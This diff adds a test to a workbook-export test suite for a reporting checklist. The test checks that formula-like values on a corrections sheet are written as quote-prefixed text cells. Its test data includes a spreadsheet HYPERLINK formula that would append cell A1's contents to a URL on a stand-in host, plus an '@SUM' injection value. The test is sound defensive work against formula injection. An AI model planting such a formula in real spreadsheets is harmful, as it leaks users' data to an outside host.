@@ -126,6 +126,35 @@ describe('上报核对单 with the 校级更正 the lock recorded', () => {
     expect(rows[1]).toMatchObject({ row: '—', field: 'gone', oldValue: '3', newValue: '（空）' });
   });
 
+  it("S5: a department's formula-like value on the corrections sheet is a quote-prefixed text cell, unchanged", async () => {
+    const [first] = corrected.context.corrections;
+    const hostile = {
+      ...corrected,
+      context: {
+        ...corrected.context,
+        corrections: [
+          { ...first!, oldValue: '=HYPERLINK("http://x.example/?"&A1,"查看")', newValue: '@SUM(1)' },
+        ],
+      },
+    };
+    const zip = unzipSync(await checklistWorkbook(hostile));
+    const styles = strFromU8(zip['xl/styles.xml']!);
+    const xfs = [...styles.slice(styles.indexOf('<cellXfs')).matchAll(/<xf [^>]*>/g)].map((m) => m[0]);
+    const sheet = Object.keys(zip)
+      .filter((n) => n.startsWith('xl/worksheets/'))
+      .map((n) => strFromU8(zip[n]!))
+      .find((x) => x.includes('@SUM(1)'));
+    expect(sheet).toBeDefined();
+    expect(sheet).not.toContain('<f>');
+    for (const text of ['=HYPERLINK(&quot;http://x.example/?&quot;&amp;A1,&quot;查看&quot;)', '@SUM(1)']) {
+      const style = new RegExp(
+        `s="(\\d+)" t="inlineStr"><is><t[^>]*>${text.replace(/[()?.]/g, '\\$&')}</t>`,
+      ).exec(sheet!);
+      expect(style, text).not.toBeNull();
+      expect(xfs[Number(style![1])]).toContain('quotePrefix="1"');
+    }
+  });
+
   it('writes them as a sheet of the workbook and a table of the printable page, escaped', async () => {
     const wb = XLSX.read(await checklistWorkbook(corrected), { type: 'array' });
     expect(wb.SheetNames).toEqual([CHECKLIST_SHEET, CORRECTIONS_SHEET]);
